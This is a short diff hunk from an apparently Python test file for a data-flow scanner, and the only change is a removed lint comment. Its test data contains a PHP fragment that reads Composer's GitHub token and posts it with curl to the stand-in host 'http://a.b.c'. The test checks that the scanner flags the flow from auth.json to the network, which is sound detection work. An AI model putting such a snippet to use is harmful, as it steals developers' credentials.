@@ -167,5 +167,5 @@ TOKEN = "<?php function f($composer) { $t = $composer->getConfig()->get('github-
         ("$c = curl_init('http://a.b.c'); curl_setopt($c, CURLOPT_POSTFIELDS, $t); curl_exec($c); }", True),
     ],
 )  # fmt: skip
-def test_composers_token_signs_in_in_a_header_and_is_taken_in_a_body(code: str, told: bool) -> None:  # noqa: FBT001
+def test_composers_token_signs_in_in_a_header_and_is_taken_in_a_body(code: str, told: bool) -> None:
     assert ("code.flow file:~/.composer/auth.json > network" in short(seen(TOKEN + code, "x.php"))) is told
